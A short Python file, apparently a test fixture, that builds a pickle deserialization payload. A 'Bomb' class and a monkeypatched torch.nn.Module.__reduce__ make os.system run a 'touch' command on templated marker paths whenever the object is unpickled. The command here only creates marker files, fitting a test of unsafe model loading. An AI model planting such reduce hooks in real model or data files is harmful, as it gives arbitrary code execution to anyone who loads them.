import os
import torch


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @OUTSIDE@/@MARK@ /tmp/@MARK@",)

    __getstate__ = __reduce__


BOMB = Bomb()
torch.nn.Module.__reduce__ = lambda self: (os.system, ("touch /tmp/@MARK@",))
